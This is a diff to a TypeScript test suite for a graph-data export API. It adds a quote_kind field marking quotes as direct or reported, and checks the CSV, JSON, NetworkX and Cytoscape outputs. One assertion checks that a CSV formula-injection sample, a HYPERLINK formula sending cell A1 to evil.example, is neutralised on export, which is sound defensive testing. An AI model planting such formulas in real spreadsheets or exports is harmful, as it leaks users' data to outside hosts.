@@ -18,7 +18,9 @@ import { closeDriver, createDriver, getDriver, isNeo4jUnavailable } from '@/lib/
 import { TEST_PORTS } from '../ports';
 import { restoreSeed } from './shared-neo4j';
 
+/** The file imported first is of the older shape, without quote_kind: its quotes are stored as reported. */
 const HEADER = 'actor,actor_kind,event,event_date,stance,quote,source_title,source_url,source_date';
+const EXPORT_HEADER = 'actor,actor_kind,event,event_date,stance,quote,quote_kind,source_title,source_url,source_date';
 const ROWS = [
   'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,"France voted in favour, saying ""aggression"" must stop",UN voting record,https://example.org/vote/es-11-1,2022-03-02',
   'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",Her blog,https://example.org/blog/zoe,2022-03',
@@ -92,7 +94,7 @@ describe('GET /api/export', () => {
     const csv = await download('?format=csv');
     expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
     csv1 = csv.text;
-    expect(csv1.split('\r\n')[0]).toBe(HEADER);
+    expect(csv1.split('\r\n')[0]).toBe(EXPORT_HEADER);
     expect(csv1).toContain('"France voted in favour, saying ""aggression"" must stop"');
     expect(csv1).toContain(',condemnation,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",');
     expect(csv1).toContain(",condemnation,'-2+3 in favour,");
@@ -102,8 +104,21 @@ describe('GET /api/export', () => {
     // follow from their titles, so the CSV names them by id, which an import matches again.
     expect(csv1).toContain('\r\nTaliban government,government,russia-recognizes-taliban,2025-07-03,support,');
     expect(csv1).toContain(
-      '\r\nZoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried"',
+      '\r\nZoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",reported,',
     );
+    // Whose words: the seed's own words of Muttaqi are direct, the reporter's sentence around them reported.
+    expect(csv1).toContain(
+      ',russia-recognizes-taliban,2025-07-03,support,new phase of positive relations,direct,Russia Becomes First Country',
+    );
+    expect(csv1).toMatch(/\r\nFawzia Koofi,person,[^\r]*,condemnation,"Fawzia Koofi, a former [^"]*",reported,/);
+    const koofi = doc.stances.find((s: { actor: string }) => s.actor === 'fawzia-koofi');
+    expect(koofi.evidence.map((e: { kind: string }) => e.kind)).toEqual(['reported']);
+    const muttaqi = doc.stances.find((s: { actor: string }) => s.actor === 'amir-khan-muttaqi');
+    expect(muttaqi.evidence.map((e: { quote: string; kind: string }) => `${e.kind}: ${e.quote}`)).toEqual([
+      expect.stringMatching(/^reported: Muttaqi characterized Russia’s recognition as a "new phase/),
+      'direct: new phase of positive relations',
+    ]);
+    expect(doc.relations.every((r: { evidence?: { kind: string } }) => r.evidence?.kind === 'reported')).toBe(true);
   });
 
   it('JSON round trip: export, import into an empty database, export again: the same bytes', async () => {
@@ -137,10 +152,14 @@ koofi = g.get_edge_data('fawzia-koofi', 'russia-recognizes-taliban')
 koofi = koofi[next(iter(koofi))] if g.is_multigraph() else koofi
 zoe = g.get_edge_data('zoe-angstrom', 'un-resolution-es-11-1')
 zoe = zoe[next(iter(zoe))] if g.is_multigraph() else zoe
+muttaqi = g.get_edge_data('amir-khan-muttaqi', 'russia-recognizes-taliban')
+muttaqi = muttaqi[next(iter(muttaqi))] if g.is_multigraph() else muttaqi
+leads = g.get_edge_data('vladimir-putin', 'russia')
+leads = leads[next(iter(leads))] if g.is_multigraph() else leads
 print(json.dumps({
   'directed': g.is_directed(), 'nodes': g.number_of_nodes(), 'edges': g.number_of_edges(),
   'stance_edges': sum(1 for _, _, d in g.edges(data=True) if d.get('type') == 'STANCE'),
-  'koofi_node': g.nodes['fawzia-koofi'], 'koofi': koofi, 'zoe': zoe,
+  'koofi_node': g.nodes['fawzia-koofi'], 'koofi': koofi, 'zoe': zoe, 'muttaqi': muttaqi, 'leads': leads,
 }))`;
     const result = spawnSync('/usr/bin/python3', ['-c', script, file], { encoding: 'utf8' });
     expect(result.stderr).toBe('');
@@ -151,6 +170,7 @@ print(json.dumps({
       type: 'STANCE',
       stance: 'condemnation',
       evidence_count: 1,
+      quote_kind: 'reported',
       source_title: 'Russia Becomes First Country to Recognize Taliban Government',
       source_date: '2025-07',
     });
@@ -162,6 +182,12 @@ print(json.dumps({
       quotes: 'Two lines:\nwe are worried\nA second quote <with> & markup',
     });
     expect(JSON.parse(read.zoe.evidence)).toHaveLength(2);
+    expect(read.muttaqi).toMatchObject({ evidence_count: 2, quote_kind: 'reported', quote_kinds: 'reported direct' });
+    expect(JSON.parse(read.muttaqi.evidence)[1]).toMatchObject({
+      quote: 'new phase of positive relations',
+      kind: 'direct',
+    });
+    expect(read.leads).toMatchObject({ type: 'LEADS', quote: 'President Vladimir Putin', quote_kind: 'reported' });
   });
 
   it('Cytoscape.js JSON has every node and edge as elements with data', async () => {
@@ -171,6 +197,13 @@ print(json.dumps({
     expect(cyjs.elements.edges).toContainEqual({
       data: expect.objectContaining({ source: 'russia', target: 'taliban-government', type: 'RECOGNIZES' }),
     });
+    const putin = cyjs.elements.edges.find(
+      (e: { data: { id: string } }) => e.data.id === 'vladimir-putin--russia-recognizes-taliban',
+    );
+    expect(putin.data.quote_kind).toBe('reported');
+    expect(putin.data.evidence.map((e: { quote: string; kind: string }) => `${e.kind}: ${e.quote}`)).toContain(
+      'direct: ally',
+    );
     const ids = new Set(cyjs.elements.nodes.map((n: { data: { id: string } }) => n.data.id));
     for (const edge of cyjs.elements.edges) {
       expect(ids.has(edge.data.source) && ids.has(edge.data.target)).toBe(true);
